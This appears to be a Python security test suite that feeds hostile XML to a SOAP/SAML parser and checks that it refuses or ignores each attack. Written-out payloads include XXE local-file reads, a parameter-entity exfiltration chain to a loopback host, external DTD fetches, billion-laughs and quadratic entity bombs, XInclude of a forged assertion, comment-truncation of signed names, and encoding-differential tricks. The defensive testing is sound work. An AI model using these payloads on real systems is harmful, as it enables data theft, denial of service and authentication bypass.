"""The XML parser: entities, DTDs, XInclude, bombs, comments, CDATA, encodings and broken bytes.

Each attack starts from a valid message and changes only what the parser sees. What must hold:
nothing is expanded, fetched or read from disk; a DOCTYPE of any kind is refused; oversized or
over-deep documents are refused before any cryptography; comments or processing instructions in
signed text are refused (they split the text a reader sees from the text that was signed); and
encodings, CDATA and character references that leave the signed text intact change nothing.
"""

from __future__ import annotations

import copy
import tempfile
from collections.abc import Callable
from pathlib import Path

from lxml import etree

from security.harness import (
    Attack,
    Build,
    World,
    assertion_of,
    find,
    inert,
    on_bytes,
    on_tree,
    refused,
    security_of,
)
from wsbind.errors import FaultCode

XXE_PYSAML2 = "CVE-2016-10127 (pysaml2 XXE)"
OWASP_XXE = "OWASP XML External Entity Prevention Cheat Sheet"
XMLSEC_DTD_FETCH = "CVE-2017-1000061 (xmlsec1 loads external DTDs and entities)"
BILLION_LAUGHS = "CVE-2003-1564 (billion laughs, libxml2)"
QUADRATIC = "defusedxml documentation: quadratic blowup entity expansion"
XINCLUDE = "W3C XML Inclusions (XInclude) 1.0"
COMMENT_TRUNCATION = "CVE-2017-11427 (python-saml comment truncation; Duo Security, 2018)"
PARSER_DIFFERENTIAL = "CVE-2025-25291/CVE-2025-25292 (ruby-saml parser differential)"
XML_SPEC = "W3C Extensible Markup Language (XML) 1.0 (Fifth Edition)"
SOAP_NO_DTD = "W3C SOAP 1.2 Part 1, 5 (a SOAP message must not contain a DTD)"
CWE_NUL = "CWE-158 (improper neutralization of null byte)"
WSI_CHARSET = "WS-I Basic Profile 1.1 (messages in UTF-8 or UTF-16, the HTTP charset telling which)"
"""The suite posts every message as ``text/xml; charset=utf-8`` and spyne decodes the body by that
label, so a body in another encoding means one thing to the verifier and another to the framework:
it must be refused before the framework sees it (the ruby-saml parser differentials' lesson)."""

UNREADABLE = (FaultCode.INVALID_SECURITY, "unreadable-xml")
ENCODING_DIFFERENTIAL = (FaultCode.INVALID_SECURITY, "unreadable-xml", "encoding-mismatch")
"""Either the parser refuses the bytes, or they are not in the charset the HTTP label declares."""
MAX_BYTES = 1024 * 1024
NOWHERE = "http://127.0.0.1:9"
"""Loopback, discard port: a parser that fetched would hit nothing useful (test_parser_extra.py
listens on a real loopback port to prove no connection is ever made)."""

SECRET = "wsbind-security-suite-secret-7f3a9c"
"""The content of the local file the external-entity attacks point at; it must never come back."""


def secret_file() -> Path:
    """A local file holding SECRET (rewritten each time: its name is fixed, so nothing piles up)."""
    path = Path(tempfile.gettempdir()) / "wsbind-security-secret.txt"
    path.write_text(SECRET + "\n")
    return path


def forged_assertion_file(world: World) -> Path:
    """A local file holding a forged (unsigned, subject admin) copy of a baseline assertion."""
    evil = copy.deepcopy(assertion_of(etree.fromstring(world.baseline("saml2"))))
    name_id = evil.find(".//{*}NameID")
    assert name_id is not None
    name_id.text = "admin"
    evil.set("ID", "_included")
    path = Path(tempfile.gettempdir()) / "wsbind-security-forged-assertion.xml"
    path.write_bytes(etree.tostring(evil))
    return path


def _split_prolog(data: bytes) -> tuple[bytes, bytes]:
    """(XML declaration or b"", the rest): a DOCTYPE must go after the declaration."""
    if data.startswith(b"<?xml"):
        end = data.index(b"?>") + 2
        return data[:end], data[end:]
    return b"", data


def with_doctype(doctype: str, replace: tuple[bytes, bytes] | None = None) -> Callable[[bytes, World], bytes]:
    """Put ``doctype`` before the root; optionally replace one byte string (to use an entity)."""

    def change(data: bytes, world: World) -> bytes:
        declaration, rest = _split_prolog(data)
        if replace is not None:
            assert replace[0] in rest, replace[0]
            rest = rest.replace(replace[0], replace[1], 1)
        return declaration + doctype.format(secret=secret_file().as_uri(), nowhere=NOWHERE).encode() + rest

    return change


def in_header(markup: str) -> Callable[[bytes, World], bytes]:
    """Add raw ``markup`` as the SOAP Header's first child (outside anything signed)."""

    def change(data: bytes, world: World) -> bytes:
        start = data.index(b"<s:Header>") + len(b"<s:Header>")
        return data[:start] + markup.encode() + data[start:]

    return change


NAME_ID = b"<saml2:NameID>alice</saml2:NameID>"


def _name_id_as(markup: bytes) -> Callable[[bytes, World], bytes]:
    def change(data: bytes, world: World) -> bytes:
        assert NAME_ID in data
        return data.replace(NAME_ID, b"<saml2:NameID>" + markup + b"</saml2:NameID>", 1)

    return change


def _split_signed_text(subject: str, role: str, where: str, node: bytes) -> Build:
    """CVE-2017-11427: the STS signs a name the attacker registered (``subject``/``role``); a
    comment or PI inserted after its first part leaves the exclusive-c14n (without comments)
    digest unchanged, while a reader that takes the first text node sees only that part."""

    def build(world: World) -> list[bytes]:
        data = world.envelope(world.issue(subject=subject, attributes={"role": [role]}))
        if where == "name":
            old = f"<saml2:NameID>{subject}</saml2:NameID>".encode()
            cut = subject.index(".")
            new = f"<saml2:NameID>{subject[:cut]}".encode() + node + f"{subject[cut:]}</saml2:NameID>".encode()
        else:
            old = f"<saml2:AttributeValue>{role}</saml2:AttributeValue>".encode()
            cut = role.index("-")
            new = (
                f"<saml2:AttributeValue>{role[:cut]}".encode() + node + f"{role[cut:]}</saml2:AttributeValue>".encode()
            )
        assert old in data
        return [data.replace(old, new, 1)]

    return build


def _nested(depth: int) -> str:
    return "<x:d xmlns:x='urn:attacker'>" + "<x:d>" * (depth - 1) + "</x:d>" * depth


def _padding_header(size: int, as_attribute: bool) -> Callable[[bytes, World], bytes]:
    """One foreign header whose text (or one attribute) is ``size`` bytes long."""

    def change(data: bytes, world: World) -> bytes:
        filler = "A" * size
        if as_attribute:
            return in_header(f"<x:Pad xmlns:x='urn:attacker' v='{filler}'/>")(data, world)
        return in_header(f"<x:Pad xmlns:x='urn:attacker'>{filler}</x:Pad>")(data, world)

    return change


def _fill_to(total: int) -> Callable[[bytes, World], bytes]:
    def change(data: bytes, world: World) -> bytes:
        overhead = len(in_header("<x:Pad xmlns:x='urn:attacker'></x:Pad>")(data, world))
        return _padding_header(total - overhead, as_attribute=False)(data, world)

    return change


def _reencode(encoding: str, declared: str | None, bom: bytes = b"") -> Callable[[bytes, World], bytes]:
    """The same document in another encoding, with the declaration ``declared`` (None: none)."""

    def change(data: bytes, world: World) -> bytes:
        text = data.decode("utf-8")
        if declared is not None:
            text = f'<?xml version="1.0" encoding="{declared}"?>' + text
        return bom + text.encode(encoding)

    return change


def _non_ascii_note(encoding: str, declared: str) -> Callable[[bytes, World], bytes]:
    """A foreign header with non-ASCII text, the whole message in ``encoding`` as declared."""

    def change(data: bytes, world: World) -> bytes:
        noted = in_header("<x:Note xmlns:x='urn:attacker'>café crème, naïve Zürich</x:Note>")(data, world)
        return _reencode(encoding, declared)(noted, world)

    return change


def _lying_declaration(world: World) -> list[bytes]:
    """Signed UTF-8 bytes of a non-ASCII subject, declared as Latin-1: every byte is a valid
    Latin-1 character, so the parser reads a different name than the STS signed."""
    data = world.envelope(world.issue(subject="josé"))
    assert b"jos&#233;" in data  # lxml wrote a character reference: make it real UTF-8 bytes
    return [b'<?xml version="1.0" encoding="ISO-8859-1"?>' + data.replace(b"jos&#233;", "josé".encode())]


def _utf16_declared_utf8(data: bytes, world: World) -> bytes:
    return b'<?xml version="1.0" encoding="UTF-8"?>'.decode().encode("utf-16-le") + data.decode().encode("utf-16-le")


def _insert_in_name_id(raw: bytes) -> Callable[[bytes, World], bytes]:
    return _name_id_as(b"ali" + raw + b"ce")


def _truncate(data: bytes, world: World) -> bytes:
    return data[: len(data) // 2]


def _mismatched_tag(data: bytes, world: World) -> bytes:
    return data.replace(b"</saml2:NameID>", b"</saml2:NameId>", 1)


def _xinclude_in_assertion(root: etree._Element, world: World) -> None:
    """The NameID's text replaced by an XInclude of a local file that holds the very same name:
    a verifier that included before digesting would see the signed text, the reader too."""
    path = Path(tempfile.gettempdir()) / "wsbind-security-name.txt"
    path.write_text("alice")
    name_id = find(assertion_of(root), ".//saml2:NameID")
    name_id.text = None
    include = etree.SubElement(name_id, "{http://www.w3.org/2001/XInclude}include")
    include.set("href", path.as_uri())
    include.set("parse", "text")


def _xinclude_in_security(root: etree._Element, world: World) -> None:
    """An XInclude of a forged assertion straight into wsse:Security: harmless unless processed
    (then it would be a second token, or the token)."""
    include = etree.SubElement(security_of(root), "{http://www.w3.org/2001/XInclude}include")
    include.set("href", forged_assertion_file(world).as_uri())
    include.set("parse", "xml")


def _xinclude_remote_in_header(root: etree._Element, world: World) -> None:
    header = find(root, "/*/s11:Header")
    holder = etree.SubElement(header, "{urn:attacker}Data")
    include = etree.SubElement(holder, "{http://www.w3.org/2001/XInclude}include")
    include.set("href", f"{NOWHERE}/include.xml")
    etree.SubElement(include, "{http://www.w3.org/2001/XInclude}fallback").text = "fallback"


def _comment_in_security(root: etree._Element, world: World) -> None:
    assertion_of(root).addprevious(etree.Comment(" <saml2:NameID>admin</saml2:NameID> "))


def _stylesheet_pi(data: bytes, world: World) -> bytes:
    return f'<?xml-stylesheet type="text/xsl" href="{NOWHERE}/evil.xsl"?>'.encode() + data


BILLION = (
    "<!DOCTYPE s:Envelope [<!ENTITY lol0 'lol'>"
    + "".join(f"<!ENTITY lol{i} '{('&lol' + str(i - 1) + ';') * 10}'>" for i in range(1, 10))
    + "]>"
)
QUADRATIC_ENTITY = "<!DOCTYPE s:Envelope [<!ENTITY a '" + "a" * 50_000 + "'>]>"


ATTACKS: list[Attack] = [
    # DOCTYPE and entities: refused before anything is expanded or fetched.
    refused(
        "parser-doctype-internal-subset",
        "parser",
        on_bytes("saml2", with_doctype("<!DOCTYPE s:Envelope [<!ELEMENT s:Envelope ANY>]>")),
        *UNREADABLE,
        source=SOAP_NO_DTD,
    ),
    refused(
        "parser-doctype-without-subset",
        "parser",
        on_bytes("saml2", with_doctype("<!DOCTYPE s:Envelope>")),
        *UNREADABLE,
        source=SOAP_NO_DTD,
    ),
    refused(
        "parser-internal-entity-as-name-id",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                "<!DOCTYPE s:Envelope [<!ENTITY who 'admin'>]>",
                (NAME_ID, b"<saml2:NameID>&who;</saml2:NameID>"),
            ),
        ),
        *UNREADABLE,
        source=OWASP_XXE,
    ),
    refused(
        "parser-entity-expanding-to-signed-text",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                "<!DOCTYPE s:Envelope [<!ENTITY who 'alice'>]>",
                (NAME_ID, b"<saml2:NameID>&who;</saml2:NameID>"),
            ),
        ),
        *UNREADABLE,
        source=PARSER_DIFFERENTIAL,
    ),
    refused(
        "parser-xxe-local-file",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                "<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM '{secret}'>]>",
                (b'<t:whoami xmlns:t="urn:wsbind:test"/>', b'<t:whoami xmlns:t="urn:wsbind:test">&xxe;</t:whoami>'),
            ),
        ),
        *UNREADABLE,
        source=XXE_PYSAML2,
    ),
    refused(
        "parser-xxe-loopback-http",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                "<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM '{nowhere}/secret'>]>",
                (b'<t:whoami xmlns:t="urn:wsbind:test"/>', b'<t:whoami xmlns:t="urn:wsbind:test">&xxe;</t:whoami>'),
            ),
        ),
        *UNREADABLE,
        source=OWASP_XXE,
    ),
    refused(
        "parser-external-parameter-entity",
        "parser",
        on_bytes("saml2", with_doctype("<!DOCTYPE s:Envelope [<!ENTITY % dtd SYSTEM '{nowhere}/evil.dtd'> %dtd;]>")),
        *UNREADABLE,
        source=XXE_PYSAML2,
    ),
    refused(
        "parser-parameter-entity-exfiltration",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                "<!DOCTYPE s:Envelope [<!ENTITY % file SYSTEM '{secret}'>"
                "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{nowhere}/?%file;'>\"> %wrap; %send;]>"
            ),
        ),
        *UNREADABLE,
        source=OWASP_XXE,
    ),
    refused(
        "parser-external-dtd",
        "parser",
        on_bytes("saml2", with_doctype("<!DOCTYPE s:Envelope SYSTEM '{nowhere}/soap.dtd'>")),
        *UNREADABLE,
        source=XMLSEC_DTD_FETCH,
    ),
    refused(
        "parser-doctype-default-attribute",
        "parser",
        on_bytes(
            "saml2",
            with_doctype("<!DOCTYPE s:Envelope [<!ATTLIST saml2:NameID Format CDATA 'urn:example:admin'>]>"),
        ),
        *UNREADABLE,
        source=PARSER_DIFFERENTIAL,
    ),
    refused(
        "parser-billion-laughs",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(BILLION, (NAME_ID, b"<saml2:NameID>&lol9;</saml2:NameID>")),
        ),
        *UNREADABLE,
        source=BILLION_LAUGHS,
    ),
    refused(
        "parser-quadratic-blowup",
        "parser",
        on_bytes(
            "saml2",
            with_doctype(
                QUADRATIC_ENTITY,
                (
                    b'<t:whoami xmlns:t="urn:wsbind:test"/>',
                    b'<t:whoami xmlns:t="urn:wsbind:test">' + b"&a;" * 2000 + b"</t:whoami>",
                ),
            ),
        ),
        *UNREADABLE,
        source=QUADRATIC,
    ),
    refused(
        "parser-undeclared-entity",
        "parser",
        on_bytes("saml2", _name_id_as(b"&who;")),
        *UNREADABLE,
        source=XML_SPEC + " 4.1 (well-formedness: entity declared)",
    ),
    # Size and depth.
    inert(
        "parser-long-text-within-limits",
        "parser",
        on_bytes("saml2", _padding_header(900_000, as_attribute=False)),
        source=QUADRATIC,
    ),
    inert(
        "parser-long-attribute-within-limits",
        "parser",
        on_bytes("saml2", _padding_header(900_000, as_attribute=True)),
        source=QUADRATIC,
    ),
    refused(
        "parser-size-bomb",
        "parser",
        on_bytes("saml2", _fill_to(MAX_BYTES + 1)),
        FaultCode.INVALID_SECURITY,
        "too-large",
        "unreadable-xml",
        source=OWASP_XXE + " (denial of service: unbounded input)",
    ),
    refused(
        "parser-depth-bomb-in-body",
        "parser",
        on_bytes(
            "saml2",
            lambda data, world: data.replace(
                b'<t:whoami xmlns:t="urn:wsbind:test"/>',
                f'<t:whoami xmlns:t="urn:wsbind:test">{_nested(5000)}</t:whoami>'.encode(),
            ),
        ),
        *UNREADABLE,
        source="OWASP XML Security Cheat Sheet (deeply nested elements)",
    ),
    # XInclude: never processed.
    refused(
        "parser-xinclude-in-name-id",
        "parser",
        on_tree("saml2", _xinclude_in_assertion),
        FaultCode.FAILED_AUTHENTICATION,
        "signature",
        source=XINCLUDE,
    ),
    inert(
        "parser-xinclude-forged-assertion-in-security",
        "parser",
        on_tree("saml2", _xinclude_in_security),
        source=XINCLUDE,
    ),
    inert(
        "parser-xinclude-loopback-in-header",
        "parser",
        on_tree("saml2", _xinclude_remote_in_header),
        source=XINCLUDE,
    ),
    # Comments and processing instructions inside signed text.
    refused(
        "parser-comment-truncates-name-id",
        "parser",
        _split_signed_text("admin.attacker.example", "reader", "name", b"<!---->"),
        FaultCode.INVALID_SECURITY_TOKEN,
        "comment-in-assertion",
        source=COMMENT_TRUNCATION,
    ),
    refused(
        "parser-comment-truncates-attribute-value",
        "parser",
        _split_signed_text("alice", "admin-request", "role", b"<!-- -->"),
        FaultCode.INVALID_SECURITY_TOKEN,
        "comment-in-assertion",
        source=COMMENT_TRUNCATION,
    ),
    refused(
        "parser-pi-truncates-name-id",
        "parser",
        _split_signed_text("admin.attacker.example", "reader", "name", b"<?x?>"),
        FaultCode.INVALID_SECURITY_TOKEN,
        "comment-in-assertion",
        source=COMMENT_TRUNCATION,
    ),
    inert(
        "parser-comment-beside-assertion",
        "parser",
        on_tree("saml2", _comment_in_security),
        source=COMMENT_TRUNCATION,
    ),
    # CDATA and character references: the same text, so the same signature and identity.
    inert(
        "parser-cdata-name-id",
        "parser",
        on_bytes("saml2", _name_id_as(b"<![CDATA[alice]]>")),
        source=COMMENT_TRUNCATION + "; " + XML_SPEC + " 2.7 CDATA Sections",
    ),
    inert(
        "parser-cdata-splits-name-id",
        "parser",
        on_bytes("saml2", _name_id_as(b"ali<![CDATA[ce]]>")),
        source=COMMENT_TRUNCATION + "; " + XML_SPEC + " 2.7 CDATA Sections",
    ),
    inert(
        "parser-character-reference-in-name-id",
        "parser",
        on_bytes("saml2", _name_id_as(b"&#97;li&#x63;e")),
        source=XML_SPEC + " 4.1 Character and Entity References",
    ),
    # Encodings.
    refused(
        "parser-utf16-message-labelled-utf8",
        "parser",
        on_bytes("saml2", _reencode("utf-16", "UTF-16")),
        *ENCODING_DIFFERENTIAL,
        source=WSI_CHARSET,
    ),
    refused(
        "parser-utf16-declared-utf8",
        "parser",
        on_bytes("saml2", _utf16_declared_utf8),
        *ENCODING_DIFFERENTIAL,
        source=WSI_CHARSET,
    ),
    refused(
        "parser-declared-encoding-lies",
        "parser",
        _lying_declaration,
        FaultCode.INVALID_SECURITY,
        "encoding-mismatch",
        source=PARSER_DIFFERENTIAL,
    ),
    refused(
        "parser-latin1-declared-non-ascii",
        "parser",
        on_bytes("saml2", _non_ascii_note("latin-1", "ISO-8859-1")),
        *ENCODING_DIFFERENTIAL,
        source=WSI_CHARSET,
    ),
    refused(
        "parser-latin1-bytes-undeclared",
        "parser",
        on_bytes("saml2", _non_ascii_note("latin-1", "UTF-8")),
        *UNREADABLE,
        source=XML_SPEC + " 4.3.3 Character Encoding in Entities",
    ),
    inert(
        "parser-utf8-bom",
        "parser",
        on_bytes("saml2", _reencode("utf-8", None, bom=b"\xef\xbb\xbf")),
        source=XML_SPEC + " F.1 Detection Without External Encoding Information",
    ),
    inert(
        "parser-standalone-declaration",
        "parser",
        on_bytes("saml2", lambda data, world: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + data),
        source=XML_SPEC + " 2.9 Standalone Document Declaration",
    ),
    inert(
        "parser-stylesheet-pi-before-root",
        "parser",
        on_bytes("saml2", _stylesheet_pi),
        source="W3C Associating Style Sheets with XML documents 1.0",
    ),
    # Broken bytes.
    refused(
        "parser-not-well-formed",
        "parser",
        on_bytes("saml2", _mismatched_tag),
        *UNREADABLE,
        source=XML_SPEC + " 2.1 Well-Formed XML Documents",
    ),
    refused(
        "parser-nul-byte-in-name-id",
        "parser",
        on_bytes("saml2", _insert_in_name_id(b"\x00")),
        *UNREADABLE,
        source=CWE_NUL,
    ),
    refused(
        "parser-nul-character-reference",
        "parser",
        on_bytes("saml2", _insert_in_name_id(b"&#0;")),
        *UNREADABLE,
        source=CWE_NUL,
    ),
    refused(
        "parser-truncated",
        "parser",
        on_bytes("saml2", _truncate),
        *UNREADABLE,
        source=XML_SPEC + " 2.1 Well-Formed XML Documents",
    ),
    refused(
        "parser-json-body",
        "parser",
        lambda world: [b'{"Envelope": {"Header": {"Security": {"Assertion": "alice"}}, "Body": {"whoami": {}}}}'],
        *UNREADABLE,
        source="W3C SOAP 1.2 Part 1, 5 (SOAP Message Construct: an XML infoset)",
    ),
    refused(
        "parser-empty-body",
        "parser",
        lambda world: [b""],
        *UNREADABLE,
        source="W3C SOAP 1.2 Part 1, 5 (SOAP Message Construct: an XML infoset)",
    ),
]
